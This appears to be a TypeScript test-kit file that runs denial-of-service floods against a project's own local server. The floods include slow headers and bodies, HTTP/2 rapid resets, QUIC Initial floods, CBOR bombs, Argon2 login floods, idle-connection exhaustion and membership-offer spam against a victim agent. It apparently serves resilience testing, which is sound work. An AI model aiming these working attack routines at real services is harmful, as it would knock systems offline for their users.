/** Floods, each until it is stopped. An attacker ignores refusals and closed connections, and begins again. */
import { randomBytes } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { connect as connectHttp2 } from 'node:http2'
import { request } from 'node:https'
import { setTimeout as pause } from 'node:timers/promises'
import { connect, type ConnectionOptions, type TLSSocket } from 'node:tls'
import { CELL_BYTES, cutEnvelope, fromHex } from '@static/protocol'
import { Agent, makeKey, Refused } from '@static/testkit/agent'
import { grpcWire, quicWire } from '@static/testkit/agent/wires'
import type { Counts, Target } from './target.ts'

/** Runs until the process is killed, and counts. */
type Attack = (target: Target, counts: Counts) => Promise<void>

const HOST = '127.0.0.1'
const BYTE_MS = 500

/** Runs this many loops at once; a failed round is retried after a moment. */
async function many({ size, addresses }: Target, round: (address: string, at: number) => Promise<void>): Promise<void> {
  await Promise.all(
    Array.from({ length: size }, async (_, at) => {
      const address = addresses[at % addresses.length] ?? HOST
      for (;;) await round(address, at).catch(() => pause(50))
    }),
  )
}

/** A TLS connection. Rejects if it cannot be made. */
function dial(port: number, { ca }: Target, localAddress: string, alpn: string): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const place = { host: HOST, port, localAddress }
    const socket = connect({ ...place, ca, servername: 'localhost', ALPNProtocols: [alpn] } as ConnectionOptions)
    socket.once('secureConnect', () => resolve(socket)).once('error', reject)
  })
}

/** Sends a beginning, then a byte now and then, until the server closes. */
async function trickle(target: Target, counts: Counts, head: string, byte: string): Promise<void> {
  await many(target, async (address) => {
    const socket = await dial(target.apiPort, target, address, 'http/1.1')
    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
    socket.write(head)
    counts.hits++
    const timer = setInterval(() => socket.write(byte), BYTE_MS)
    await closed
    clearInterval(timer)
  })
}

/** An unencrypted QUIC Initial: the server must look at it, and must not remember it. */
function initial(): Buffer {
  const packet = randomBytes(1200)
  // Long header, type Initial; version 1; two connection ids of 8 bytes; no token; the length of the rest.
  packet[0] = 0xc3
  packet.writeUInt32BE(1, 1)
  packet[5] = 8
  packet[14] = 8
  packet[23] = 0
  packet.writeUInt16BE(0x4000 | (1200 - 26), 24)
  return packet
}

/** Envelopes of CBOR that promise much: depth, length, and items. */
const BOMBS: readonly Uint8Array[] = [
  new Uint8Array(4000).fill(0x81),
  new Uint8Array(4000).fill(0xa1),
  Uint8Array.of(0x9b, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff),
  Uint8Array.of(0x5b, 0, 0, 0, 0x7f, 0xff, 0xff, 0xff, 0xff),
  Uint8Array.of(0x9a, 0, 0xff, 0xff, 0xff, ...new Uint8Array(3000)),
]

function post(target: Target, path: string, localAddress: string, body: object, key?: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const headers = { 'content-type': 'application/json', ...(key ? { authorization: `Bearer ${key}` } : {}) }
    const { ca, apiPort: port } = target
    const call = request({ host: HOST, port, ca, path, method: 'POST', headers, localAddress, servername: 'localhost' })
    call.once('error', reject).once('response', (response) => {
      let text = ''
      response.setEncoding('utf8').on('data', (chunk: string) => (text += chunk))
      response.once('end', () => resolve(text)).once('error', reject)
    })
    call.end(JSON.stringify(body))
  })
}

let lastToken: string | undefined

/** An agent of the attacker's account, with the token of another one while there are no more. */
async function member(target: Target, localAddress: string): Promise<Agent> {
  const answer = JSON.parse(await post(target, '/v1/tokens', localAddress, {}, target.apiKey)) as { token?: string }
  lastToken = answer.token ?? lastToken ?? target.token
  return await Agent.connect(grpcWire({ port: target.grpcPort, ca: target.ca, localAddress }), { jwt: lastToken })
}

/** Waits for an answer of the relay, whatever it is. Rejects when the stream has ended. */
function bold<Answer>(answer: Promise<Answer>): Promise<Answer | undefined> {
  return answer.catch((error: unknown) => {
    if (!(error instanceof Refused)) throw error
    return undefined
  })
}

/**
 * Keeps a connection open as long as possible: one request to the API, the beginning of HTTP/2 (with empty
 * settings) to the relay.
 */
const API_IDLER = ['apiPort', 'http/1.1', 'GET /health/live HTTP/1.1\r\nHost: localhost\r\n\r\n'] as const
const RELAY_IDLER = ['grpcPort', 'h2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0'] as const

/** Handshakes of idle connections at once: if there are many, a slow attacker finishes none of them in time. */
const DIALLERS = 32

/** The attacks by name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  'slow headers': (target, counts) => trickle(target, counts, 'GET / HTTP/1.1\r\nHost: localhost\r\n', 'x: y\r\n'),
  'slow bodies': (target, counts) => {
    const head = 'Host: localhost\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{'
    return trickle(target, counts, `POST /v1/sessions HTTP/1.1\r\n${head}`, ' ')
  },
  'HTTP/2 resets': (target, counts) =>
    many(target, async (localAddress) => {
      const socket = await dial(target.grpcPort, target, localAddress, 'h2')
      const session = connectHttp2(`https://localhost:${target.grpcPort}`, { createConnection: () => socket })
      session.on('error', () => {})
      const headers = {
        ':method': 'POST',
        ':path': '/static.relay.v1.Relay/GetChallenge',
        'content-type': 'application/grpc',
      }
      while (!session.destroyed) {
        for (let at = 0; at < 50 && !session.destroyed; at++) {
          const stream = session.request(headers)
          stream.on('error', () => {})
          stream.close(8)
        }
        counts.hits++
        await pause(1)
      }
    }),
  'QUIC Initials': (target, counts) =>
    many(target, async (address) => {
      const socket = createSocket('udp4')
      socket.on('error', () => {})
      await new Promise<void>((resolve) => socket.bind(0, address, resolve))
      for (;;) {
        for (let at = 0; at < 20; at++) socket.send(initial(), target.quicPort, HOST)
        counts.hits++
        await pause(1)
      }
    }),
  'CBOR bombs': (target, counts) =>
    many(target, async (_address, at) => {
      const agent = await quicWire({ port: target.quicPort, ca: target.ca }).open({ data: () => {}, closed: () => {} })
      for (let round = 0; round < 20; round++)
        agent.write(cutEnvelope(BOMBS[(at + round) % BOMBS.length] ?? new Uint8Array(CELL_BYTES)))
      await pause(20)
      agent.end()
      counts.hits++
    }),
  'Argon2 floods': (target, counts) =>
    many(target, async (address) => {
      const email = `${randomBytes(4).toString('hex')}@example.com`
      await post(target, '/v1/sessions', address, { email, password: randomBytes(8).toString('hex') })
      counts.hits++
    }),
  'idle connections': (target, counts) => {
    let open = 0
    return many({ ...target, size: DIALLERS }, async (_address, at) => {
      if (open >= target.size) return pause(50)
      open++
      const { addresses } = target
      const address = addresses[counts.tried++ % addresses.length] ?? HOST
      const [port, alpn, least] = at % 2 === 0 ? API_IDLER : RELAY_IDLER
      const socket = await dial(target[port], target, address, alpn).catch((error: unknown) => {
        open--
        throw error
      })
      socket
        .on('error', () => {})
        .once('close', () => {
          open--
          counts.held--
        })
      // The answer is not read.
      socket.write(least)
      counts.hits++
      counts.held++
    })
  },
  sessions: (target, counts) =>
    many(target, async (address) => {
      const agent = await member(target, address)
      agent.close()
      counts.hits++
      await agent.ended
    }),
  offers: (target, counts) =>
    many(target, async (address) => {
      const agent = await member(target, address)
      const victim = fromHex(target.victim)
      const channelId = new Uint8Array(randomBytes(16))
      const name = `attack/${randomBytes(6).toString('hex')}/x`
      await agent.request('createChannel', { channelId, name, welcome: new Uint8Array(100) })
      // Offered and removed in turns, as fast as the relay answers, even with refusals.
      for (let slot = 0n; ;) {
        const isIn = slot % 2n === 1n
        if (!isIn) await bold(agent.request('addMember', { channelId, agentId: victim }))
        const change = isIn ? { removes: [victim] } : { adds: [victim] }
        if (!(await bold(agent.commit(channelId, slot, change)))) continue
        slot++
        if (!isIn) counts.hits++
      }
    }),
  joins: (target, counts) =>
    many(target, async (localAddress) => {
      const wire = grpcWire({ port: target.grpcPort, ca: target.ca, localAddress })
      const agent = await Agent.connect(wire, { key: makeKey() })
      try {
        for (let round = 0; round < 50; round++) {
          const request = { inviteId: randomBytes(16), box: randomBytes(400), proof: randomBytes(32) }
          // Refused: that invite was never registered.
          await agent.request('requestJoin', request).catch(() => {})
          counts.hits++
        }
      } finally {
        agent.close()
      }
    }),
}
